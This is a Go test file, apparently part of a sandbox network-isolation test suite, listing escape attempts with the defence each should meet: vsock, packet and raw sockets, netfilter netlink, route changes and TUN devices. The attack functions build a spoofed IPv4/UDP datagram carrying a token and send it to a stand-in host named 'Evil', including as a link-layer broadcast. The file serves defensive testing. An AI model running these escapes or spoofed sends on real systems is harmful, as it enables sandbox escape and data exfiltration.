//go:build linux

package gauntlet

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// familyRows are sockets that do not go through the link, or that see more than their own bytes.
func familyRows() []Row {
	return []Row{
		{
			ID: "escape/vsock", Vector: "open a socket to the hypervisor, which no network namespace holds", Right: "the family is not there",
			Source: "security.md 2.5",
			Lacks:  lacksFamily(unix.AF_VSOCK, unix.SOCK_STREAM),
			Attack: func(*Attacker) error {
				fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				return unix.Bind(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_ANY, Port: unix.VMADDR_PORT_ANY})
			},
		},
		{
			ID: "escape/packet-socket", Vector: "write a frame of its own onto the host's link, past its routes and filters", Right: "the family is not there, and no capability",
			Source: "security.md 2.4", Privileged: true,
			Attack: (*Attacker).sendFrame, Harm: Heard,
		},
		{
			ID: "escape/raw-socket", Vector: "send an IP packet made by hand, with the source address of somebody else", Right: "no capability",
			Source: "security.md 2.4; bullfrog's README", Privileged: true,
			Attack: (*Attacker).sendRaw, Harm: Heard,
		},
		{
			ID: "escape/netfilter", Vector: "talk to netfilter by netlink", Right: "the protocol is not there",
			Source: "security.md 2.5", Lacks: lacksNetfilter,
			Attack: func(*Attacker) error { return openNetfilter() },
		},
		{
			ID: "escape/route", Vector: "give the network another address and route", Right: "no capability",
			Source: "security.md 2.5", Privileged: true,
			Attack: func(*Attacker) error {
				lo, err := netlink.LinkByName("lo")
				if err != nil {
					return err
				}
				addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.IPv4(203, 0, 113, 99), Mask: net.CIDRMask(32, 32)}}
				if err := netlink.AddrAdd(lo, addr); err != nil {
					return err
				}
				return netlink.AddrDel(lo, addr)
			},
		},
		{
			ID: "escape/tun-device", Vector: "make a second link with /dev/net/tun", Right: "the device is not there, and no capability",
			Source: "security.md 2.5", Privileged: true, Lacks: lacksDevice("/dev/net/tun"),
			Attack: func(*Attacker) error {
				tun, err := os.OpenFile("/dev/net/tun", os.O_RDWR, 0)
				if err != nil {
					return err
				}
				defer tun.Close()
				req, _ := unix.NewIfreq("gauntlet%d")
				req.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
				return unix.IoctlIfreq(int(tun.Fd()), unix.TUNSETIFF, req)
			},
		},
	}
}

func lacksFamily(family, kind int) func() string {
	return func() string {
		fd, err := unix.Socket(family, kind, 0)
		if errors.Is(err, unix.EAFNOSUPPORT) {
			return fmt.Sprintf("socket family %d", family)
		}
		unix.Close(fd)
		return ""
	}
}

func lacksDevice(path string) func() string {
	return func() string {
		if f, err := os.OpenFile(path, os.O_RDWR, 0); err == nil {
			f.Close()
			return ""
		}
		return path
	}
}

func lacksNetfilter() string {
	if err := openNetfilter(); err != nil {
		return "netfilter"
	}
	return ""
}

func openNetfilter() error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_NETFILTER)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Bind(fd, &unix.SockaddrNetlink{Family: unix.AF_NETLINK})
}

// sendFrame broadcasts a UDP datagram for the echo port of Evil on every link that has a hardware address.
func (a *Attacker) sendFrame() error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	links, err := net.Interfaces()
	if err != nil {
		return err
	}
	sent := errors.New("no link")
	for _, l := range links {
		if l.Flags&net.FlagLoopback != 0 || len(l.HardwareAddr) != 6 {
			continue
		}
		to := &unix.SockaddrLinklayer{Protocol: 0x0008, Ifindex: l.Index, Halen: 6, Addr: [8]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}} // 0x0800 in network order
		if sent = unix.Sendto(fd, a.datagram(), 0, to); sent != nil {
			break
		}
	}
	return sent
}

// sendRaw does the same through the routes.
func (a *Attacker) sendRaw() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Sendto(fd, a.datagram(), 0, &unix.SockaddrInet4{Addr: Evil.As4()})
}

// datagram is an IPv4 packet with the token for UDP port 7 of Evil, from an address that is nobody's.
func (a *Attacker) datagram() []byte {
	const ipHeader, udpHeader = 20, 8
	p := make([]byte, ipHeader+udpHeader, 128)
	p = append(p, a.Token...)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	copy(p[12:], []byte{192, 0, 2, 200})
	to := Evil.As4()
	copy(p[16:], to[:])
	var sum uint32
	for i := 0; i < ipHeader; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	binary.BigEndian.PutUint16(p[10:], ^uint16(sum+sum>>16))
	binary.BigEndian.PutUint16(p[20:], 7777)
	binary.BigEndian.PutUint16(p[22:], 7)
	binary.BigEndian.PutUint16(p[24:], uint16(len(p)-ipHeader)) // and no checksum: RFC 768 lets it be 0
	return p
}
